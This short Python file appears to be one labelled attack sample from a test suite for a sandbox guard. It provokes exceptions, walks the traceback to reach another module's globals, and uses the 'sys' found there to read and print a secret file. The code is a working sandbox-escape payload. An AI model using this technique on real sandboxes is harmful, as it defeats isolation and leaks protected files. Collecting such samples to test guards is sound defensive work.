# attack: lets the guard refuse something (or an allowed module fail), and takes that module's globals from the traceback
# family: attribute
import statistics
class Names:
    def __traceback__(self):
        pass
    tb_next: int
    tb_frame: int
    f_globals: int
for fail in (lambda: getattr(print, "__se" + "lf__"), lambda: statistics.mean([])):
    try:
        fail()
    except Exception as error:
        trace = error.__traceback__
        while trace.tb_next:
            trace = trace.tb_next
        space = trace.tb_frame.f_globals
        if "sys" in space:
            print("REACHED", space["__name__"])
            print(space["sys"].modules["io"].open("$SECRET_FILE").read())
